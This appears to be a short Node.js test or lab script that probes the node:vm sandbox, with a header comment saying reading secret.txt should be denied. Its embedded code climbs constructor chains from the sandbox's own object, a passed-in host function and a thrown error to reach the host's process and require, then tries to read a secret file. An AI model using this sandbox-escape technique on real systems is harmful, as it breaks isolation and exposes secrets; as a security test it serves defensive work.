// Climbs out of a realm by the constructors of what it was given, and in by those of what it gives.
// denied: file:read secret.txt
const fs = require('node:fs');
const vm = require('node:vm');
const lab = JSON.parse(process.argv[2]);
const text = `
  const climbed = [this.constructor.constructor, given.constructor.constructor, (() => { try { given() } catch (error) { return error.constructor.constructor } })()];
  const seen = [];
  for (const climb of climbed) {
    try {
      const { process, require } = climb('return { process, require: process.mainModule && process.mainModule.require }')();
      seen.push(require ? require('fs').readFileSync(secret, 'utf8') : process.binding('fs'));
    } catch (error) { seen.push(error.code ?? error.message) }
  }
  seen.join()`;
console.log(vm.runInNewContext(text, { given: () => fs.readFileSync('/nowhere'), secret: lab.secret }));
const other = vm.runInNewContext('(file) => file');
console.log(other.constructor('return typeof process')());
console.log(fs.readFileSync(other(lab.secret), 'utf8'));
